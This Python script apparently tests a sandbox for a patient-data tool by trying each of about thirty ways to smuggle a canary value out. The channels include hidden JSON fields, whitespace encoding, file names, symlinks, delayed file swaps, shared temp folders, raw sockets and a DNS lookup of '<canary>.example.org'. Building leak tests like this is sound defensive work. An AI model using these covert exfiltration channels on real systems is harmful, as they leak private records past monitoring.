"""Tries one way out of the host with what it knows of patients: ``main.py WAY OUTPUT METRICS``.

What it carries is computed here, so that it stands nowhere until the tool has run.
"""

import base64
import gzip
import hashlib
import io
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

WAY, OUTPUT, METRICS = sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3])
CANARY = hashlib.sha256(f"a patient, by {WAY}".encode()).hexdigest()[:24]
ROW = {"patient": CANARY, "age": 71}


def write(name: str, content: object) -> None:
    path = OUTPUT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())


def archive() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as target:
        target.writestr(CANARY, CANARY)
    return packed.getvalue()


def escaped() -> bytes:
    return ('{"' + "".join(f"\\u{ord(each):04x}" for each in CANARY) + '": 40}').encode()


def swap_later() -> None:
    """What is written is honest until the command has ended."""
    write("counts.json", {"n": 40})
    after = (
        f"import time, pathlib; time.sleep(0.05); pathlib.Path({str(OUTPUT)!r}, 'counts.json').write_text({CANARY!r})"
    )
    for delay in ("", "time.sleep(0.3);", "time.sleep(1);"):
        command = [sys.executable, "-c", after.replace("time.sleep(0.05);", delay or "time.sleep(0.05);")]
        subprocess.Popen(command, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def metrics(*lines: object) -> None:
    with METRICS.open("w") as target:
        for line in lines:
            target.write(json.dumps(line) + "\n")
    time.sleep(1.5)


def elsewhere() -> None:
    """Wherever a later job, or the host, might read it."""
    for place in ("/tmp", "/var/tmp", "/dev/shm", str(Path.home()), "/fedproc", "/fedproc/source", "/fedproc/input"):
        try:
            Path(place, CANARY).write_text(CANARY)
        except OSError:
            continue


def network() -> None:
    import socket

    for address in (("1.1.1.1", 53), ("127.0.0.1", 5672), ("127.0.0.1", 443)):
        try:
            with socket.create_connection(address, 1) as line:
                line.sendall(CANARY.encode())
        except OSError:
            continue
    try:
        socket.getaddrinfo(f"{CANARY}.example.org", 80)
    except OSError:
        return


STATE = {"status": "ok"}
WAYS = {
    "another field": lambda: write("counts.json", {"n": 40, "note": CANARY}),
    "a key twice": lambda: write("counts.json", b'{"n": 40, "n": "' + CANARY.encode() + b'", "n": 40}'),
    "a text for a number": lambda: write("counts.json", {"n": CANARY}),
    "digits of a count": lambda: write("counts.json", {"n": int(CANARY, 16)}),
    "bytes after the document": lambda: write("counts.json", b'{"n": 40}' + CANARY.encode()),
    "blanks": lambda: write("counts.json", b'{"n": 40}' + bytes(b" \t"[bit == "1"] for bit in f"{int(CANARY, 16):b}")),
    "escapes": lambda: write("counts.json", escaped()),
    "rows": lambda: write("counts.json", [ROW] * 40),
    "an archive": lambda: write("counts.json", archive()),
    "packed": lambda: write("counts.json", gzip.compress(CANARY.encode())),
    "names of files": lambda: write(f"folds/fold-{CANARY}.json", {"n": 40}),
    "folders": lambda: write(f"folds/{CANARY}/fold-1.json", {"n": 40}),
    "a name of any bytes": lambda: (
        (OUTPUT / "folds").mkdir()
        or os.close(os.open(os.fsencode(OUTPUT / "folds") + b"/\xff" + CANARY.encode(), os.O_CREAT | os.O_WRONLY))
    ),
    "an undeclared file": lambda: write(f"{CANARY}.json", ROW),
    "notes": lambda: write("notes.txt", CANARY.encode()),
    "encoded notes": lambda: write("notes.txt", base64.b64encode(CANARY.encode())),
    "the status": lambda: write("state.json", {"status": CANARY}),
    "a field of the status": lambda: write("state.json", {"status": "ok", CANARY: 1}),
    "the status as a list": lambda: write("state.json", {"status": [CANARY]}),
    "output lines": lambda: print(CANARY, flush=True),
    "error lines": lambda: print(CANARY, file=sys.stderr, flush=True),
    "an exception": lambda: {}[CANARY],
    "texts as metrics": lambda: metrics({"loss": CANARY}),
    "names of metrics": lambda: metrics({CANARY: 1.0}, {"loss": {CANARY: 1}}),
    "digits of a metric": lambda: metrics({"loss": float(int(CANARY, 16))}, {"loss": int(CANARY, 16)}),
    "a link as metrics": lambda: write("x", CANARY.encode()) or METRICS.symlink_to(OUTPUT / "x"),
    "a symbolic link": lambda: write("x", CANARY.encode()) or (OUTPUT / "counts.json").symlink_to("x"),
    "a hard link": lambda: write("x", CANARY.encode()) or os.link(OUTPUT / "x", OUTPUT / "counts.json"),
    "a linked folder": lambda: write("y/fold-1.json", CANARY.encode()) or (OUTPUT / "folds").symlink_to("y"),
    "a pipe": lambda: os.mkfifo(OUTPUT / "counts.json"),
    "an output that is swapped later": swap_later,
    "shared folders": elsewhere,
    "the network": network,
}


if __name__ == "__main__":
    OUTPUT.mkdir(parents=True, exist_ok=True)
    if WAY not in ("the status", "a field of the status", "the status as a list"):
        write("state.json", STATE)
    if WAY == "nothing but a count":
        write("counts.json", {"n": 40})
    else:
        WAYS[WAY]()
